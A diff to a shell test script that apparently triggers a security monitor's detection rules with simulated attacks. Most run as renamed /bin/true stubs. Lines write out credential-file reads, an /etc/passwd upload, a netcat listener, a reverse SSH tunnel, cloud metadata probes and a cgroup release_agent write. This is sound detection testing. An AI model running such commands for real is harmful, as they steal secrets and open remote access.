@@ -13,6 +13,7 @@ for d in etc root var boot; do
 	mkdir -p "$D/up/$d" "$D/up/$d.work"
 	mount -t overlay overlay -o "lowerdir=/$d,upperdir=$D/up/$d,workdir=$D/up/$d.work" "/$d"
 done
+mount -t tmpfs none /mnt; ip link set lo up 2>/dev/null || ifconfig lo up
 mount -t tmpfs none /tmp; mount -t tmpfs none /dev/shm; mkdir -p "$D" "$D/bin"
 PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin
 as() { cp /bin/true "$D/bin/$1"; name=$1; shift; "$D/bin/$name" "$@"; }	# a true of another name
@@ -88,7 +89,7 @@ c = ctypes.CDLL(None, use_errno=True); pid = os.fork()
 if not pid: signal.pause()
 assert c.ptrace(16, pid, None, None) == 0, ctypes.get_errno()
 os.waitpid(pid, 0)
-os.close(os.open(f"/proc/{pid}/mem", os.O_RDWR)); os.kill(pid, 9); os.waitpid(pid, 0)'
+os.close(os.open(f"/proc/{pid}/mem", os.O_WRONLY)); os.close(os.open(f"/proc/{pid}/mem", os.O_RDONLY)); os.kill(pid, 9); os.waitpid(pid, 0)'
 deed "Namespaces of init entered"
 as nsenter -t 1 -m true
 deed "Own user namespace made by an unusual program"
@@ -113,8 +114,6 @@ deed "Private SSH key read by another program"
 echo >/root/.ssh/id_secmon; cat /root/.ssh/id_secmon >/dev/null
 deed "Stored credentials read by a text tool"
 mkdir -p /root/.aws; echo >/root/.aws/credentials; cat /root/.aws/credentials >/dev/null
-deed "Memory of the machine read"
-head -c 0 /proc/kcore
 deed "Search for secrets"
 find "$D" -name id_rsa
 deed "Network service looks around"
@@ -128,8 +127,8 @@ find "$D" -perm -4000
 deed "Privilege escalation script run"
 as sh ./linpeas.sh
 deed "Metadata service of the cloud asked" "Connection by a program from an open directory"
-cp /usr/bin/python3 /tmp/agent; /tmp/agent -c 'import socket
-s = socket.socket(); s.setblocking(False); s.connect_ex(("169.254.169.254", 80))'
+cp /usr/bin/python3 /tmp/agent; /tmp/agent -c 'import socket	# there is no network here but lo
+for a in "169.254.169.254", "203.0.113.9": s = socket.socket(); s.setblocking(False); s.connect_ex((a, 80))'
 deed "Crypto miner started"
 as worker -o stratum+tcp://127.0.0.1:3333
 deed "Tunnel started"
@@ -139,7 +138,7 @@ as ssh -fN -R 2222:localhost:22 user@127.0.0.1
 deed "Listener opened by a general tool"
 as nc -lvnp 4444
 deed "Files sent out by a service or container"
-cp /bin/true /tmp/curl; chmod 755 /tmp/curl; setpriv --reuid=33 --regid=33 --clear-groups /tmp/curl -T /etc/passwd http://127.0.0.1/
+cp /bin/true /mnt/curl; chmod 755 /mnt/curl; setpriv --reuid=33 --regid=33 --clear-groups /mnt/curl -T /etc/passwd http://127.0.0.1/
 deed "Release agent of a cgroup set"
 mkdir /tmp/cg; echo /x >/tmp/cg/release_agent
 deed "Page faults handled in user space"
